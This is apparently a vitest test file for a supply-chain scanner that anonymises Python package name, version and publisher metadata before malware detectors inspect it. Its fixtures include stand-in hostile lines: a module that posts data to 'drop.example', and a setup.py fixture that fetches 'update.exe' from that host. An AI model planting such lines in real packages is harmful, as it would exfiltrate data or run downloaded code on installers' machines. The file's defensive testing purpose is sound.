import { createHash } from 'node:crypto';
import { analyzeArtifact, createMemoryView } from '@weir/analysis/in-process';
import { memorySource, openSource } from '@weir/archive';
import type { DetectorInput } from '@weir/detectors';
import { tarball } from '@weir/testkit/archive';
import { describe, expect, it } from 'vitest';
import { BLIND_NAME, blindFiles, type NamedFile } from './blind.ts';
import { blindView } from './blind-view.ts';

const METADATA = `Metadata-Version: 2.1
Name: Foo-Bar
Version: 9.9.7
Author: Ann Example
Author-email: ann@mail.example
Home-page: https://code.example/foo-bar
Requires-Dist: requests

foo-bar does things.
`;

const FILES = {
  'foo_bar/__init__.py': 'import foo_bar.core\nfrom foo_bar import core\nprint(core.foo_bar, "foo-bar")\n',
  'foo_bar/core.py': "import requests\nrequests.post('http://drop.example', data='x')\n",
  'setup.py':
    "from setuptools import setup\nsetup(name='foo-bar', version='9.9.7', author='Ann Example', author_email='ann@mail.example', packages=['foo_bar'])\n",
  'foo_bar.egg-info/PKG-INFO': METADATA,
  'PKG-INFO': METADATA,
};

function toFiles(files: Readonly<Record<string, string>>): NamedFile[] {
  return Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
}

function textOf(files: readonly NamedFile[], path: string): string | undefined {
  const file = files.find((item) => item.path === path);
  return file && Buffer.from(file.bytes).toString();
}

describe('blindFiles', () => {
  it('keeps keys of TOML apart that are spellings of the name', () => {
    const text =
      '[project.entry-points."tool.hooks"]\nfoo-bar = "foo_bar.a:run"\nfoo_bar = "foo_bar.b:run"\n';

    const blinded = blindFiles('Foo-Bar', toFiles({ 'pyproject.toml': text, 'foo_bar/__init__.py': '' }));

    expect(textOf(blinded, 'pyproject.toml')).toBe(
      '[project.entry-points."tool.hooks"]\nsubject = "subject.a:run"\nsubject_2 = "subject.b:run"\n',
    );
  });

  const blinded = blindFiles('Foo-Bar', toFiles(FILES));

  it('renames the module of the distribution and what imports it, but no attribute', () => {
    expect(blinded.map(({ path }) => path)).toEqual([
      'subject/__init__.py',
      'subject/core.py',
      'setup.py',
      'subject-1.0.egg-info/PKG-INFO',
      'PKG-INFO',
    ]);
    expect(textOf(blinded, 'subject/__init__.py')).toBe(
      'import subject.core\nfrom subject import core\nprint(core.foo_bar, "subject")\n',
    );
  });

  it('leaves other code as it is', () => {
    expect(textOf(blinded, 'subject/core.py')).toBe(FILES['foo_bar/core.py']);
  });

  it('withholds name, version and publisher where they are declared', () => {
    expect(textOf(blinded, 'PKG-INFO')).not.toMatch(/foo|9\.9\.7|ann|code\.example/i);
    expect(textOf(blinded, 'setup.py')).not.toMatch(/foo|9\.9\.7|ann/i);
  });

  it('keeps what setup.py does besides naming the distribution', () => {
    const acts = "name = 'update.exe'\nurl = 'http://drop.example/x'\nrun(url=url, version=3)\n";
    const [file] = blindFiles('foo', toFiles({ 'setup.py': `${acts}setup(name='foo', author='Ann')\n` }));

    expect(Buffer.from(file?.bytes ?? []).toString()).toBe(`${acts}setup(name="subject", author="")\n`);
  });

  it('withholds the publisher in settings that are no code', () => {
    const toml =
      '[project]\nname = "foo"\nversion = "2.3"\nauthors = [{name = "Ann", email = "ann@mail.example"}]\n';
    const cfg =
      '[metadata]\nname = foo\nversion = 2.3\nauthor_email = ann@mail.example\nurl = https://code.example\n';

    const settings = blindFiles('foo', toFiles({ 'pyproject.toml': toml, 'setup.cfg': cfg }));

    for (const path of ['pyproject.toml', 'setup.cfg']) {
      expect(textOf(settings, path)).toContain(BLIND_NAME);
      expect(textOf(settings, path)).not.toMatch(/foo|2\.3|ann|code\.example/i);
    }
  });

  it('keeps lists that are called as an address is', () => {
    const toml = '[project.optional-dependencies]\ndocumentation = [\n  "sphinx",\n]\n';

    expect(textOf(blindFiles('foo', toFiles({ 'pyproject.toml': toml })), 'pyproject.toml')).toBe(toml);
  });

  it('keeps a word of the code that no module of the package has', () => {
    const [file] = blindFiles('build', toFiles({ 'setup.py': 'import build\nbuild.run()\n' }));

    expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import build\nbuild.run()\n');
  });

  it('tells a class from the module of its name by its capitals', () => {
    const [file] = blindFiles('shapes', toFiles({ 'shapes/a.py': 'import shapes\nclass Shapes: pass\n' }));

    expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import subject\nclass Shapes: pass\n');
  });

  it('keeps bytes that are no text', () => {
    const bytes = Uint8Array.from({ length: 256 }, (_, index) => index);
    const [file] = blindFiles('other', [{ path: 'other/data.py', bytes }]);

    expect(Buffer.from(file?.bytes ?? []).equals(Buffer.from(bytes))).toBe(true);
  });

  it('keeps right lines of RECORD right and wrong ones wrong', () => {
    const source = 'import foo_bar\n';
    const digest = createHash('sha256').update(source).digest('base64url');
    const record = `foo_bar/a.py,sha256=${digest},15\nfoo_bar/b.py,sha256=AAAA,15\n`;
    const files = toFiles({
      'foo_bar/a.py': source,
      'foo_bar/b.py': source,
      'foo_bar-9.dist-info/RECORD': record,
    });

    const after = blindFiles('foo-bar', files);

    const renamed = createHash('sha256').update('import subject\n').digest('base64url');
    expect(textOf(after, 'subject-1.0.dist-info/RECORD')).toBe(
      `subject/a.py,sha256=${renamed},15\nsubject/b.py,sha256=AAAA,15\n`,
    );
  });
});

describe('blindView', () => {
  async function inputOf(paths: Readonly<Record<string, string>>): Promise<DetectorInput | undefined> {
    let input: DetectorInput | undefined;
    await using view = await blindView(createMemoryView(paths), 'Foo-Bar', true);
    await analyzeArtifact(
      view,
      { ecosystem: 'pypi', filename: BLIND_NAME, context: null },
      {
        layout: 'directory',
        artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
        rulesetVersion: 'test',
        now: () => 0,
        detectors: [
          {
            id: 'spy',
            title: 'keeps what it is shown',
            rules: [],
            detect: (shown) => {
              input = shown;
              return [];
            },
          },
        ],
      },
    );
    return input;
  }

  it('shows a detector no name, version, publisher or container of the distribution', async () => {
    const wrapped = Object.fromEntries(
      Object.entries(FILES).map(([path, text]) => [`Foo-Bar-9.9.7/${path}`, text]),
    );

    const input = await inputOf(wrapped);

    const shown = JSON.stringify(input, (_key, value: unknown) =>
      value instanceof Map ? [...(value as Map<unknown, unknown>)] : value,
    );
    expect(input?.manifest.name).toBeNull();
    expect(input?.distribution?.name ?? null).toBeNull();
    expect(input?.context).toBeNull();
    expect(shown).toContain('drop.example');
    expect(shown).not.toMatch(/(?<!core\.)foo[-_]?bar|9\.9\.7|ann@|Ann Example|code\.example|tar\.gz|\.whl/i);
  });

  it('keeps what a link leads to', async () => {
    const bytes = tarball()
      .file('foo-1/docs/changes.rst', 'text')
      .file('foo-1/foo/__init__.py', '')
      .symlink('foo-1/CHANGES.rst', 'docs/changes.rst')
      .symlink('foo-1/docs/init', '../foo/__init__.py')
      .build();
    await using opened = await openSource(memorySource(bytes), { filename: 'foo-1.tar.gz' });

    await using view = await blindView(opened, 'foo', true);

    const links = view.entries.filter(({ kind }) => kind === 'symlink');
    expect(links.map(({ path, linkTarget }) => [path, linkTarget])).toEqual([
      ['CHANGES.rst', 'docs/changes.rst'],
      ['docs/init', '../subject/__init__.py'],
    ]);
    expect(view.problems.map(({ path }) => path)).toEqual(['CHANGES.rst', 'docs/init']);
  });

  it('shows the same whatever folder and name the archive had', async () => {
    const one = Object.fromEntries(
      Object.entries(FILES).map(([path, text]) => [`Foo-Bar-9.9.7/${path}`, text]),
    );
    const other = Object.fromEntries(Object.entries(FILES).map(([path, text]) => [`x/${path}`, text]));

    const [first, second] = [await inputOf(one), await inputOf(other)];

    expect([...(first?.files.keys() ?? [])]).toEqual([...(second?.files.keys() ?? [])]);
  });
});
